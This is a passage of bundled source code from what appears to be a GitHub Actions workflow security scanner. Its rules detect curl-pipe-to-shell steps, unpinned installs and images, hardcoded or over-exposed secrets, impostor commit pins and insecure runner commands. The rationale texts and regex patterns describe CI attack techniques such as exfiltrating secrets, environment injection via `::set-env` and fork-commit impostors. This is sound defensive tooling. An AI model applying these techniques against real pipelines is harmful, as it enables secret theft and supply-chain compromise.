    }
    if (piped || !INSTALL_LINE.test(text)) continue;
    let offset = 0;
    for (const command of text.split(/(&&|\|\||;|\|)/)) {
      const start = offset;
      offset += command.length;
      if (/^(&&|\|\||;|\|)$/.test(command)) continue;
      const install = unpinnedInstall(command);
      if (!install) continue;
      const lead = command.length - command.trimStart().length;
      const trimmed = command.trim();
      found.push({
        ...original(start + lead, start + lead + trimmed.length),
        severity: "low",
        message: `${install.tool} of ${install.packages.join(", ")} without a pinned version: each run may install something different`
      });
    }
  }
  return found;
}
var downloadExecute = defineWorkflowRule({
  meta: {
    id: "download-execute",
    area: "build",
    severity: "medium",
    title: "Downloaded code executed unverified, or packages installed unpinned",
    rationale: "`curl ... | sh` runs whatever the server sends at that moment, with the job's token and secrets in reach; unpinned `pip install`, `npm i -g`, `go install ...@latest` do the same through a registry. A compromised host or package changes the build without a change to the repository.",
    remediation: "Download to a file and check its SHA-256 before running it (or use a pinned action); pin ad-hoc installs to exact versions (`pip install tool==1.2.3`, `npm i -g tool@1.2.3`, `go install x@v1.2.3`), better with hashes or a lockfile.",
    references: ["SSC-45", "OSPS-BR-05.01", "Scorecard: Pinned-Dependencies (downloadThenRun, pipCommand, npmCommand, goCommand)", "poutine: unverified_script_exec", "zizmor: adhoc-packages"],
    access: { token: "none" }
  },
  defaultOptions: {},
  step(step) {
    const run = step.run;
    if (!run) return null;
    const file = stepDoc(step).file;
    return scanScript(run.value).map((finding) => ({
      status: "fail",
      severity: finding.severity,
      message: `${stepOwner(step)}, step ${step.index + 1}: ${finding.message}`,
      // The command's own characters, even when it is the whole value (a block scalar starts at its `|`).
      location: locate(file, sourceSpan(file, run, finding.index, finding.index + finding.length))
    }));
  }
});

// src/rules/build/hardcoded-container-credentials.ts
var hardcodedContainerCredentials = defineWorkflowRule({
  meta: {
    id: "hardcoded-container-credentials",
    area: "build",
    severity: "high",
    title: "Container registry password written in the workflow",
    rationale: "A password in the workflow file is readable by everyone who can read the repository (and its history, forever), and it is not masked in logs.",
    remediation: "Store it as a secret and reference it: `password: ${{ secrets.REGISTRY_PASSWORD }}`; rotate the exposed one. For GHCR use `${{ secrets.GITHUB_TOKEN }}` with `packages: read`.",
    references: ["SSC-25", "OSPS-BR-07.01", "zizmor: hardcoded-container-credentials", "actionlint: credentials"],
    access: { token: "none" }
  },
  defaultOptions: {},
  job(job) {
    const results = [];
    const check = (container, where) => {
      const password = container?.credentials?.password;
      if (!password || password.value.trim() === "" || password.value.includes("${{")) return;
      results.push({
        status: "fail",
        message: `${where}: the registry password is a literal in the workflow`,
        location: nodeLocation(job.workflow, password.node),
        fix: "password: ${{ secrets.REGISTRY_PASSWORD }}"
      });
    };
    check(job.container, `job ${job.id}: container`);
    for (const service of job.services) check(service, `job ${job.id}: service ${service.name}`);
    return results;
  }
});

// src/rules/build/impostor-commit.ts
var impostorCommit = defineWorkflowRule({
  meta: {
    id: "impostor-commit",
    area: "build",
    severity: "critical",
    title: "Pinned commit not in the action repository (impostor commit)",
    rationale: 'GitHub resolves `owner/repo@<sha>` for any commit in the repository\'s fork network. An attacker can push a commit to a fork and propose it as a "pin" of the real action; the SHA looks legitimate but the code is theirs.',
    remediation: "Replace the SHA with the commit of a release tag of the action repository itself (check it on the repository's Releases page or with `git ls-remote`), and find out how the SHA got there.",
    references: ["SSC-45", "OSPS-BR-01", "zizmor: impostor-commit"],
    access: { token: "github-token", githubToken: [], note: "GraphQL (tags, branches) plus one REST compare per SHA that is not a tag or branch head" }
  },
  needs: [actionRefsFact],
  gapsHandled: [actionRefsFact],
  defaultOptions: {},
  model(_model, ctx) {
    const resolved = resolvedSites(ctx);
    const results = [];
    for (const site of resolved.sites) {
      const resolution = resolved.refs.refs[site.key];
      const location = locate(site.file, site.node);
      if (!resolution) {
        if (FULL_SHA.test(site.ref)) results.push({ status: "unknown", message: `${site.value}: the pin was not resolved`, location });
        continue;
      }
      if (!resolution.isSha) continue;
      const slug = `${site.owner}/${site.repo}`;
      switch (resolution.reachable) {
        case "unreachable":
          results.push({ status: "fail", message: `${site.value}: commit ${resolution.sha} is not in the history of ${slug}'s default branch (${resolution.defaultBranch}) and is not the commit of any of its 100 newest tags or its branch heads: it may come from a fork`, location });
          break;
        case "not-found":
          results.push(
            resolution.status === "repo-not-found" ? { status: "unknown", message: `${site.value}: repository ${slug} is not visible to the token (private, deleted or renamed): the pin cannot be checked`, location, permission: `Contents: read on ${slug}` } : { status: "fail", severity: "high", message: `${site.value}: commit ${site.ref} does not exist in ${slug}`, location }
          );
          break;
        case "unknown":
          results.push({ status: "unknown", message: `${site.value}: could not check whether the commit belongs to ${slug}: ${resolution.error ?? "no answer"}`, location });
          break;
        default:
          break;
      }
    }
    return results;
  }
});

// src/rules/build/insecure-commands.ts
var insecureCommands = defineWorkflowRule({
  meta: {
    id: "insecure-commands",
    area: "build",
    severity: "high",
    title: "Insecure workflow commands enabled (ACTIONS_ALLOW_UNSECURE_COMMANDS)",
    rationale: "With `ACTIONS_ALLOW_UNSECURE_COMMANDS` the runner obeys `::set-env` and `::add-path` printed on standard output. Anything a step prints (a PR title, a file from the checkout, a tool's output) can then set `NODE_OPTIONS`, `LD_PRELOAD` or `PATH` for every later step: code execution (CVE-2020-15228).",
    remediation: "Remove the variable; write to `$GITHUB_ENV` and `$GITHUB_PATH` files instead, and update actions that still print the old commands.",
    references: ["SSC-50", "OSPS-BR-01.01", "zizmor: insecure-commands", "actionlint: deprecated-commands"],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    return findEnvFlags(model, ["ACTIONS_ALLOW_UNSECURE_COMMANDS"]).map((flag) => ({
      status: "fail",
      ...flag.value === "expression" ? { severity: "medium" } : {},
      message: `${flag.where} sets ${flag.name}${flag.how === "github-env" ? " through $GITHUB_ENV" : ""}${flag.value === "expression" ? " from an expression (true when it evaluates to true)" : ""}: the runner obeys ::set-env and ::add-path from any output`,
      location: flag.location,
      fix: `remove ${flag.name}`
    }));
  }
});

// src/rules/build/known-vulnerable-actions.ts
var SEVERITY = { critical: "critical", high: "high", medium: "medium", low: "low", unknown: "medium" };
var knownVulnerableActions = defineWorkflowRule({
  meta: {
    id: "known-vulnerable-actions",
    area: "build",
    severity: "high",
    title: "Action version with a known vulnerability",
    rationale: "GitHub publishes advisories for actions (ecosystem `actions`): injection bugs in popular actions, and compromised releases such as tj-actions/changed-files (CVE-2025-30066). A workflow pinned to an affected version keeps running it.",
    remediation: "Update to the first patched version the advisory names (pinned by SHA), or replace the action; accept a reviewed advisory with the `ignore` option.",
    references: ["SSC-45", "OSPS-VM-05", "zizmor: known-vulnerable-actions", "poutine: known_vulnerability_in_build_component"],
    access: { token: "github-token", githubToken: [], note: "GET /advisories (public data) and GraphQL to resolve SHA pins to versions" }
  },
  needs: [actionRefsFact],
  // A reference that was not resolved is judged by its name when it is a version, and reported unknown
  // when an advisory exists for the action and its version could not be determined.
  gapsHandled: [actionRefsFact],
  defaultOptions: { ignore: [] },
  optionsSchema: { type: "object", properties: { ignore: { type: "array", items: { type: "string", pattern: "^GHSA(-[23456789cfghjmpqrvwx]{4}){3}$" }, description: "GHSA ids to accept" } } },
  model(_model, ctx) {
    const resolved = resolvedSites(ctx);
    const advisories = resolved.refs.advisories;
    if (!advisories.known) return [{ status: "unknown", message: advisories.reason, ...advisories.permission ? { permission: advisories.permission } : {} }];
    const ignored = new Set(ctx.options.ignore.map((id) => id.toUpperCase()));
    const results = [];
    for (const site of resolved.sites) {
      const resolution = resolved.refs.refs[site.key];
      const location = locate(site.file, site.node);
      const packages = [`${site.owner}/${site.repo}`, ...site.path ? [`${site.owner}/${site.repo}/${site.path}`] : []];
      const relevant = advisories.value.filter((advisory) => advisory.vulnerabilities.some((v) => packages.some((name) => name.toLowerCase() === v.package.toLowerCase())));
      if (relevant.length === 0) continue;
      const version = resolution?.version ?? (resolution?.isTag || !resolution ? site.ref : void 0);
      if (!version) {
        results.push({ status: "unknown", message: `${site.value}: ${relevant.length} advisor${relevant.length === 1 ? "y exists" : "ies exist"} for ${packages[0]}, but the version of ${site.ref} could not be determined${resolution?.error ? ` (${resolution.error})` : ""}`, location });
        continue;
      }
      for (const { advisory, firstPatched } of affected(relevant, packages, version)) {
        if (ignored.has(advisory.ghsaId.toUpperCase())) continue;
        results.push({
          status: "fail",
          severity: SEVERITY[advisory.severity] ?? "high",
          message: `${site.value} is ${version === site.ref ? "version" : `${site.ref} = version`} ${version}, affected by ${advisory.ghsaId}${advisory.cveId ? ` (${advisory.cveId})` : ""}: ${advisory.summary}${firstPatched ? `; fixed in ${firstPatched}` : ""}`,
          location,
          ...firstPatched ? { fix: `uses: ${packages[packages.length - 1]}@<SHA of ${firstPatched} or later> # ${firstPatched}` } : {}
        });
      }
    }
    return results;
  }
});

// src/rules/build/overprovisioned-secrets.ts
var TO_JSON = /\btojson\s*\(\s*secrets\s*\)/i;
var DYNAMIC_INDEX = /\bsecrets\s*\[\s*(?!'[^']*'\s*\])/i;
var WHOLE = /(?:^|[^.\w-])secrets\s*(?:$|[),])/i;
function secretsExposure(body) {
  const ast = parseExpression(body);
  if (ast && !contextRefs(ast).some((ref) => ref.path === "secrets")) return void 0;
  if (TO_JSON.test(body)) return "toJSON(secrets) serialises every secret";
  if (DYNAMIC_INDEX.test(body)) return "secrets[...] with a computed index can read any secret";
  if (ast || WHOLE.test(body.trim())) return "the whole secrets context is passed";
  return void 0;
}
var overprovisionedSecrets = defineWorkflowRule({
  meta: {
    id: "overprovisioned-secrets",
    area: "build",
    severity: "medium",
    title: "Whole secrets context exposed",
    rationale: "The runner only receives the secrets a job references. `toJSON(secrets)` or a computed `secrets[...]` index makes it send all of them, so one leak (a log line, a compromised step) discloses every secret of the repository and organization.",
    remediation: "Reference each secret by name (`secrets.NPM_TOKEN`); for a lookup table, map the few names explicitly in `env:`.",
    references: ["SSC-25", "OSPS-BR-07.02", "zizmor: overprovisioned-secrets", "poutine: job_all_secrets"],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const results = [];
    const docs = [...model.workflows, ...model.actions];
    for (const doc of docs) {
      for (const str2 of allExpressionStrings(doc.file)) {
        if (!/secrets/i.test(str2.value)) continue;
        for (const expression of str2.expressions) {
          const why = secretsExposure(expression.body);
          if (why) results.push({ status: "fail", message: `${why}: ${expression.body.trim()}`, location: expressionLocation(doc, expression) });
        }
      }
    }
    return results;
  }
});

// src/rules/build/ref-confusion.ts
var refConfusion = defineWorkflowRule({
  meta: {
    id: "ref-confusion",
    area: "build",
    severity: "medium",
    title: "Action ref is both a branch and a tag",
    rationale: "When `@v1` names a tag and a branch, which one the runner checks out is up to GitHub's resolution order, and a contributor who can push a branch (but not tags) can create the ambiguity to get their code run in place of the release.",
    remediation: "Pin the action by commit SHA (with the version in a comment); ask the maintainers to delete the branch that shadows the tag.",
    references: ["SSC-45", "zizmor: ref-confusion"],
    access: { token: "github-token", githubToken: [], note: "GraphQL, one query per 20 action repositories" }
  },
  needs: [actionRefsFact],
  gapsHandled: [actionRefsFact],
  defaultOptions: {},
  model(_model, ctx) {
    const resolved = resolvedSites(ctx);
    const results = [];
    for (const site of resolved.sites) {
      const resolution = resolved.refs.refs[site.key];
      if (resolution?.isSha) continue;
      const location = locate(site.file, site.node);
      if (!resolution || resolution.status === "error") {
        results.push({ status: "unknown", message: `${site.value}: could not resolve ${site.ref}: ${resolution?.error ?? "no answer"}`, location });
        continue;
      }
      if (resolution.isBranch && resolution.isTag) {
        results.push({
          status: "fail",
          message: `${site.value}: ${site.ref} is both a branch and a tag of ${site.owner}/${site.repo}`,
          location,
          ...resolution.sha ? { fix: `uses: ${site.owner}/${site.repo}${site.path ? `/${site.path}` : ""}@${resolution.sha} # ${resolution.version ?? site.ref}` } : {}
        });
      }
    }
    return results;
  }
});

// src/rules/build/ref-version-mismatch.ts
function versionComment(site) {
  const end = site.node.range?.[1];
  if (end === void 0) return void 0;
  const text = site.file.text;
  const lineEnd = text.indexOf("\n", end);
  const rest = text.slice(end, lineEnd === -1 ? void 0 : lineEnd);
  const match = /^\s*#\s*(?:(?:tag|version|ref)\s*[=:]\s*)?(\S+)/.exec(rest);
  if (!match) return void 0;
  return { text: match[1], start: end + rest.indexOf(match[1]) };
}
function commentMatches(claimed2, actual) {
  if (!actual) return false;
  const a = parseVersion(actual);
  const c = parseVersion(claimed2);
  if (!a || !c) return claimed2 === actual;
  return c.every((part, i) => part === a[i]) && (c.length < a.length || compareVersions(a, c) === 0);
}
var refVersionMismatch = defineWorkflowRule({
  meta: {
    id: "ref-version-mismatch",
    area: "build",
    severity: "medium",
    title: "Version comment does not match the pinned commit",
    rationale: "SHA pins are reviewed through their version comment (`# v4.2.2`), and Dependabot and Renovate update the comment along with the SHA. A comment naming a tag that points to another commit makes the workflow look like it runs a release it does not run \u2014 an outdated or vulnerable commit, or one that is not a release at all.",
    remediation: "Set the SHA to the commit of the tag the comment names (or correct the comment); the finding's fix has both.",
    references: ["SSC-45", "zizmor: ref-version-mismatch"],
    access: { token: "github-token", githubToken: [], note: "no request of its own: the shared GraphQL resolution of action refs" }
  },
  needs: [actionRefsFact],
  gapsHandled: [actionRefsFact],
  defaultOptions: {},
  model(_model, ctx) {
    const resolved = resolvedSites(ctx);
    const results = [];
    for (const site of resolved.sites) {
      if (!FULL_SHA.test(site.ref)) continue;
      const comment = versionComment(site);
      const resolution = resolved.refs.refs[site.key];
      if (!comment) continue;
      if (!resolution || resolution.status === "error" || resolution.status === "repo-not-found") {
        const why = !resolution ? "it was not resolved" : resolution.status === "error" ? resolution.error ?? "it was not resolved" : `repository ${site.owner}/${site.repo} is not visible to the token (private, deleted or renamed)`;
        results.push({ status: "unknown", message: `${site.value}: whether ${comment.text} is commit ${site.ref.slice(0, 12)} could not be checked: ${why}`, location: locate(site.file, [comment.start, comment.start + comment.text.length]) });
        continue;
      }
      if (!resolution.tagCommits || resolution.status !== "resolved") continue;
      const claimedCommit = resolution.tagCommits[comment.text];
      if (!claimedCommit || claimedCommit === resolution.sha) continue;
      if (commentMatches(comment.text, resolution.version)) continue;
      const target2 = `${site.owner}/${site.repo}${site.path ? `/${site.path}` : ""}`;
      results.push({
        status: "fail",
        message: `${target2}: the comment says ${comment.text}, but ${comment.text} is commit ${claimedCommit.slice(0, 12)} and the pin is ${site.ref.slice(0, 12)}${resolution.version ? ` (${resolution.version})` : ", which no listed tag points to"}`,
        location: locate(site.file, [comment.start, comment.start + comment.text.length]),
        fix: `uses: ${target2}@${claimedCommit} # ${comment.text}   (or keep the SHA and write # ${resolution.version ?? "the right version"})`
      });
    }
    return results;
  }
});

// src/rules/build/release-environment-protection.ts
var PUBLISH_COMMAND2 = anyCommand(RELEASE_SECRET_COMMANDS);
var PUBLISH_ACTIONS2 = RELEASE_SECRET_ACTIONS.map((entry2) => entry2.action);
var SECRET = /\bsecrets\.([A-Za-z_]\w*)|\bsecrets\[\s*'([^']+)'\s*\]/g;
function jobSecrets(job) {
  const range = job.node?.range;
  if (!range) return [];
  const text = job.workflow.file.text.slice(range[0], range[1]);
  const names = /* @__PURE__ */ new Set();
  for (const match of text.matchAll(SECRET)) {
    const name = match[1] ?? match[2];
    if (name && name.toUpperCase() !== "GITHUB_TOKEN") names.add(name);
  }
  return [...names];
}
function publishes(job) {
  return job.steps.some((step) => {
    if (step.run && PUBLISH_COMMAND2.test(step.run.value)) return true;
    if (PUBLISH_ACTIONS2.some((name) => usesAction(step, name))) return true;
    return usesAction(step, "docker/build-push-action") && /^true$/i.test(input(step, "push")?.value.trim() ?? "");
  });
}
function isProtected(environment) {
  const rules = environment.protection_rules ?? [];
  const reviewers = rules.some((rule) => rule.type === "required_reviewers" && (rule.reviewers ?? []).length > 0);
  const timer = rules.some((rule) => rule.type === "wait_timer" && (rule.wait_timer ?? 0) > 0);
  const custom = rules.some((rule) => rule.type !== "required_reviewers" && rule.type !== "wait_timer" && rule.type !== "branch_policy");
  return reviewers || timer || custom || Boolean(environment.deployment_branch_policy);
}
var releaseEnvironmentProtection = defineWorkflowRule({
  meta: {
    id: "release-environment-protection",
    area: "build",
    severity: "medium",
    title: "Release job with secrets outside a protected environment",
    rationale: "Repository secrets are available to every workflow on every branch: anyone who can push a branch can write a workflow that prints the publishing token. Secrets kept in a deployment environment with required reviewers or a branch policy are only released to approved runs from the right branches.",
    remediation: "Create an environment (e.g. `release`) with required reviewers and/or a deployment branch/tag policy, move the publishing secrets into it, and add `environment: release` to the job.",
    references: ["SSC-27", "OSPS-BR-07.02", "zizmor: secrets-outside-env"],
    access: { token: "github-token", githubToken: ["actions: read"], fineGrained: ["Actions: read"], note: "GET /repos/{owner}/{repo}/environments for the protection rules; jobs without environment fail offline" }
  },
  uses: [environmentsFact],
  defaultOptions: {},
  job(job, ctx) {
    if (job.uses || !publishes(job)) return null;
    const secrets = jobSecrets(job);
    if (secrets.length === 0) return null;
    const environment = job.environment;
    const name = environment?.name?.value;
    const list = secrets.slice(0, 4).join(", ") + (secrets.length > 4 ? ", ..." : "");
    if (!environment || !name) {
      return { status: "fail", message: `job ${job.id} publishes with secrets (${list}) but runs in no deployment environment`, location: nodeLocation(job.workflow, job.keyNode), fix: "environment: release   # with required reviewers or a deployment branch policy; move the secrets into it" };
    }
    if (name.includes("${{")) return null;
    const location = nodeLocation(job.workflow, environment.node);
    const environments = ctx.fact(environmentsFact);
    if (!environments.known) {
      return { status: "unknown", message: `job ${job.id} uses environment ${name}; its protection rules could not be read: ${environments.reason}`, location, ...environments.permission ? { permission: environments.permission } : {} };
    }
    const found = environments.value.find((candidate) => candidate.name.toLowerCase() === name.toLowerCase());
    const results = [];
    if (!found) {
      results.push({ status: "fail", message: `job ${job.id} uses environment ${name}, which does not exist yet (GitHub creates it unprotected on first use)`, location });
    } else if (!isProtected(found)) {
      results.push({ status: "fail", message: `job ${job.id} publishes with secrets (${list}) in environment ${name}, which has no required reviewers, wait timer or deployment branch policy`, location });
    }
    return results;
  }
});

// src/rules/build/secrets-inherit.ts
var secretsInherit = defineWorkflowRule({
  meta: {
    id: "secrets-inherit",
    area: "build",
    severity: "medium",
    title: "Reusable workflow called with `secrets: inherit`",
    rationale: "`secrets: inherit` passes every secret the calling workflow can see to the called workflow, whatever it needs. A compromised or careless reusable workflow (or a later change to it) then reaches all of them.",
    remediation: "Pass only the secrets the called workflow declares: `secrets: { NPM_TOKEN: ${{ secrets.NPM_TOKEN }} }`.",
    references: ["SSC-25", "OSPS-BR-07.02", "zizmor: secrets-inherit"],
    access: { token: "none" }
  },
  defaultOptions: {},
  job(job) {
    if (!job.secrets?.inherit) return null;
    return {
      status: "fail",
      message: `job ${job.id} passes every secret to ${job.uses?.raw ?? "a reusable workflow"} (secrets: inherit)`,
      location: nodeLocation(job.workflow, job.secrets.node),
      fix: "secrets:\n  NAME: ${{ secrets.NAME }}   # only the secrets the called workflow declares"
    };
  }
});

// src/rules/build/self-hosted-runner.ts
function selfHostedUses(workflow) {
  const file = workflow.file;
  const found = [];
  for (const job of workflow.jobs) {
    const runsOn = entry(file.doc, job.node, "runs-on");
    if (!runsOn?.value) continue;
    const value = deref(file.doc, runsOn.value);
    const labels = (node) => {
      const resolved = deref(file.doc, node);
      if (isScalar(resolved)) {
        const text = scalarText(file.doc, resolved);
        return text === void 0 ? [] : [{ text, node: resolved }];
      }
      if (isSeq(resolved)) return resolved.items.flatMap((item) => labels(item));
      return [];
    };
    if (isMap(value)) {
      const group = entry(file.doc, value, "group");
      if (group?.value) {
        found.push({ workflow, job: job.id, node: group.value, why: `runner group ${scalarText(file.doc, group.value) ?? ""}`.trim() });
        continue;
      }
      for (const label of labels(entry(file.doc, value, "labels")?.value)) {
        if (label.text === "self-hosted") found.push({ workflow, job: job.id, node: label.node, why: "label self-hosted" });
      }
      continue;
    }
    for (const label of labels(value)) {
      if (label.text === "self-hosted") {
        found.push({ workflow, job: job.id, node: label.node, why: "label self-hosted" });
        continue;
      }
      const matrixKey = /^\$\{\{\s*matrix\.([\w-]+)\s*\}\}$/.exec(label.text.trim())?.[1];
      if (!matrixKey) continue;
      const matrix = entry(file.doc, entry(file.doc, job.node, "strategy")?.value, "matrix")?.value;
      const candidates = [
        ...labels(entry(file.doc, matrix, matrixKey)?.value),
        ...(asSeq(file.doc, entry(file.doc, matrix, "include")?.value)?.items ?? []).flatMap((item) => labels(entry(file.doc, item, matrixKey)?.value))
      ];
      const hosted = candidates.find((candidate) => candidate.text === "self-hosted" || candidate.text.includes("self-hosted"));
      if (hosted) found.push({ workflow, job: job.id, node: hosted.node, why: `matrix.${matrixKey} = ${hosted.text}` });
    }
  }
  return found;
}
var selfHostedRunner = defineWorkflowRule({
  meta: {
    id: "self-hosted-runner",
    area: "build",
    severity: "high",
    title: "Self-hosted runner used by a public repository",
    rationale: `GitHub advises that self-hosted runners "should almost never be used for public repositories": a fork's pull request can run code on them, and unless the runner is ephemeral that code persists into later jobs (and may reach the network the runner sits in).`,
    remediation: "Use GitHub-hosted runners for public repositories, or ephemeral just-in-time runners in a runner group restricted to selected workflows; require approval for all outside contributors.",
    references: ["SSC-44", "SSC-43", "OSPS-BR-01.03", "zizmor: self-hosted-runner", "poutine: pr_runs_on_self_hosted"],
    access: { token: "github-token", githubToken: ["contents: read"], fineGrained: ["Metadata: read"], note: "visibility from GET /repos/{owner}/{repo}; unknown when it cannot be read" }
  },
  uses: [repositoryFact],
  defaultOptions: { "allowed-runners": [] },
  optionsSchema: {
    type: "object",
    properties: { "allowed-runners": { type: "array", items: { type: "string" }, description: "labels or group:NAME of ephemeral runners allowed on public repositories" } }
  },
  model(model, ctx) {
    const allowed = new Set(ctx.options["allowed-runners"]);
    const uses = model.workflows.flatMap((workflow) => selfHostedUses(workflow)).filter((use) => {
      const label = use.why.startsWith("runner group ") ? `group:${use.why.slice("runner group ".length)}` : scalarText(use.workflow.file.doc, use.node) ?? "";
      return !allowed.has(label);
    });
    if (uses.length === 0) return [];
    const repository = ctx.fact(repositoryFact);
    const results = [];
    for (const use of uses) {
      const location = nodeLocation(use.workflow, use.node);
      if (!repository.known) {
        results.push({ status: "unknown", message: `job ${use.job} runs on a self-hosted runner (${use.why}); whether the repository is public is unknown: ${repository.reason}`, location, ...repository.permission ? { permission: repository.permission } : {} });
        continue;
      }
      if (repository.value.private || repository.value.visibility === "internal") continue;
      const outsiders = forkReachable(use.workflow);
      results.push({
        status: "fail",
        ...outsiders ? {} : { severity: "medium" },
        message: `job ${use.job} of public repository ${repository.value.full_name} runs on a self-hosted runner (${use.why})${outsiders ? ", and the workflow runs on events outsiders can trigger" : ""}`,
        location
      });
    }
    return results;
  }
});

// src/rules/build/unpinned-images.ts
var DIGEST = /@sha256:[0-9a-f]{64}$/i;
function imageTag(image) {
  const withoutDigest = image.split("@")[0];
  const lastSlash = withoutDigest.lastIndexOf("/");
  const colon = withoutDigest.indexOf(":", lastSlash + 1);
  return colon === -1 ? "" : withoutDigest.slice(colon + 1);
}
function gradeImage(image) {
  if (DIGEST.test(image)) return null;
  const tag = imageTag(image);
  if (tag === "") return { severity: "high", why: "has no tag (it means :latest) and no digest" };
  if (tag === "latest") return { severity: "high", why: "uses the :latest tag and no digest" };
  return { severity: "medium", why: `is pinned to the tag :${tag}, which its publisher can move, not to a digest` };
}
var unpinnedImages = defineWorkflowRule({
  meta: {
    id: "unpinned-images",
    area: "build",
    severity: "high",
    title: "Container image not pinned by digest",
    rationale: "Job containers, service containers and `docker://` steps run whatever the registry serves for the name at that moment. A tag (or no tag, which is `latest`) can be re-pointed by whoever controls the image, or by an attacker who took it over; a `@sha256:` digest cannot.",
    remediation: "Reference the image by digest, keeping the tag for readers: `image: node:22.11-bookworm@sha256:<digest>`, and let Dependabot (docker ecosystem) or Renovate update it.",
    references: ["SSC-45", "OSPS-BR-05.01", "zizmor: unpinned-images", "Scorecard: Pinned-Dependencies (containerImage)"],
    access: { token: "none" }
  },
  defaultOptions: { "tag-allowed": [] },
  strictOptions: { "tag-allowed": [] },
  optionsSchema: {
    type: "object",
    properties: { "tag-allowed": { type: "array", items: { type: "string" }, description: "image name prefixes that may use a tag instead of a digest" } }
  },
  model(model, ctx) {
    const allowed = ctx.options["tag-allowed"];
    const results = [];
    const check = (doc, node, image, where) => {
      if (image.includes("${{") || image.trim() === "") return;
      const grade2 = gradeImage(image.trim());
      if (!grade2) return;
      if (grade2.severity === "medium" && allowed.some((prefix) => image.startsWith(prefix))) return;
      results.push({ status: "fail", severity: grade2.severity, message: `${where} image ${image.trim()} ${grade2.why}`, location: nodeLocation(doc, node), fix: `${image.trim().split("@")[0]}@sha256:<digest>` });
    };
    const walk = walkOf(model);
    for (const action of walk.actions) {
      const image = action.runs?.image;
      if (image?.value.startsWith("docker://")) check(action, image.node, image.value.slice("docker://".length), "the Docker action");
    }
    for (const job of walk.jobs) {
      if (job.container?.image) check(job.workflow, job.container.image.node, job.container.image.value, `job ${job.id}: container`);
      for (const service of job.services) if (service.image) check(job.workflow, service.image.node, service.image.value, `job ${job.id}: service ${service.name}`);
    }
    for (const step of walk.steps) {
      if (step.uses?.kind === "docker") check(stepDoc(step), step.uses.node, step.uses.image ?? "", `${stepOwner(step)}: step ${step.index + 1} (docker://)`);
    }
    return results;
  }
});

// src/rules/build/use-trusted-publishing.ts
var SECRET_REF = /\$\{\{\s*secrets\.([A-Za-z_][\w]*)\s*\}\}/;
var PUBLISHERS = TRUSTED_PUBLISHING_REGISTRIES;
function secretName(item) {
  const name = SECRET_REF.exec(item.value?.value ?? "")?.[1];
  return name && name.toUpperCase() !== "GITHUB_TOKEN" ? name : void 0;
}
function actionInputs(step) {
  const doc = stepDoc(step);
  const hits = [];
  for (const known2 of LONG_LIVED_CREDENTIAL_INPUTS) {
    if (!usesAction(step, known2.action)) continue;
    const entry2 = step.with.get(known2.input);
    if (entry2?.value && SECRET_REF.test(entry2.value.value)) hits.push({ location: nodeLocation(doc, entry2.keyNode), message: known2.note });
  }
  return hits;
}
function publishingHits(model) {
  const hits = [];
  for (const step of walkOf(model).steps) {
    const doc = stepDoc(step);
    const jobId = step.job?.id ?? "(composite action)";
    hits.push(...actionInputs(step));
    const env = [...step.job?.workflow.env.values() ?? [], ...step.job?.env.values() ?? [], ...step.env.values()];
    for (const item of step.env.values()) {
      const name = secretName(item);
      if (!name) continue;
      if (/^AWS_SECRET_ACCESS_KEY$/i.test(item.name)) hits.push({ location: nodeLocation(doc, item.keyNode), message: `step ${step.index + 1} of ${jobId} puts a long-lived AWS secret key (secrets.${name}) in the environment; use aws-actions/configure-aws-credentials with role-to-assume (OIDC)` });
      if (/^(GOOGLE_CREDENTIALS|GCP_SA_KEY|GOOGLE_APPLICATION_CREDENTIALS_JSON|GCLOUD_SERVICE_KEY)$/i.test(item.name)) hits.push({ location: nodeLocation(doc, item.keyNode), message: `step ${step.index + 1} of ${jobId} puts a Google Cloud service account key (secrets.${name}) in the environment; use Workload Identity Federation` });
    }
    if (!step.run) continue;
    const run = step.run;
    for (const publisher of PUBLISHERS) {
      if (!publisher.command.test(run.value)) continue;
      const token = env.find((item) => publisher.env.test(item.name) && secretName(item));
      const inline = new RegExp(`--(?:api-key|token|password)\\s+["']?\\$\\{\\{\\s*secrets\\.(\\w+)`).exec(run.value);
      if (token) {
        hits.push({ location: nodeLocation(doc, token.keyNode), message: `job ${jobId} publishes to ${publisher.registry} with a long-lived token (${token.name} = secrets.${secretName(token)}); use ${publisher.instead}` });
      } else if (inline) {
        hits.push({ location: nodeLocation(doc, run.node), message: `job ${jobId} publishes to ${publisher.registry} with a long-lived token (secrets.${inline[1]}) on the command line; use ${publisher.instead}` });
      }
    }
  }
  return hits;
}
var useTrustedPublishing = defineWorkflowRule({
  meta: {
    id: "use-trusted-publishing",
    area: "build",
    severity: "medium",
    title: "Long-lived publishing or cloud credential where OIDC is available",
    rationale: "A registry token or cloud key stored as a secret works from anywhere until someone rotates it; a leak (a log, a compromised step, a pwn request) keeps working. Trusted publishing and workload identity federation issue a short-lived credential bound to this repository and workflow instead.",
    remediation: "Configure trusted publishing on the registry (or a workload identity provider on the cloud), grant the job `id-token: write`, remove the secret, and revoke the token.",
    references: ["SSC-28", "OSPS-BR-07.02", "zizmor: use-trusted-publishing"],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const results = [];
    const seen = /* @__PURE__ */ new Set();
    for (const hit of publishingHits(model)) {
      const key2 = `${hit.location.path}:${hit.location.startLine}:${hit.location.startColumn}`;
      if (seen.has(key2)) continue;
      seen.add(key2);
      results.push({ status: "fail", message: hit.message, location: hit.location });
    }
    return results;
  }
});

// src/workflow/rule-helpers.ts
var RANK2 = { critical: 5, high: 4, medium: 3, low: 2, info: 1 };
function key(location) {
  return location ? `${location.path}:${location.startLine}:${location.startColumn}:${location.endLine}:${location.endColumn}` : "";
}
function dedupeResults(results) {
  const byKey = /* @__PURE__ */ new Map();
  const out = [];
  for (const result of results) {
    if (!result.location) {
      out.push(result);
      continue;
    }
    const k = key(result.location);
    const existing = byKey.get(k);
    if (!existing) {
      byKey.set(k, result);
      out.push(result);
    } else if (RANK2[result.severity ?? "info"] > RANK2[existing.severity ?? "info"]) {
      out[out.indexOf(existing)] = result;
      byKey.set(k, result);
    }
  }
  return out;
}
function envVarName(path6) {
  const segments = path6.replace(/^github\.event\./, "").replace(/^github\./, "").split(".").filter((segment) => segment !== "*" && segment !== "outputs");
  const tail = segments.slice(-2).join("_");
  return (tail || "VALUE").replace(/pull_request/g, "PR").replace(/[^A-Za-z0-9]+/g, "_").replace(/^_+|_+$/g, "").toUpperCase();
}
function envReference(name, shell, language = "shell") {
  if (language === "javascript") return `process.env.${name}`;
  if (/^(pwsh|powershell)/.test(shell)) return `$env:${name}`;
  if (/^cmd/.test(shell)) return `%${name}%`;
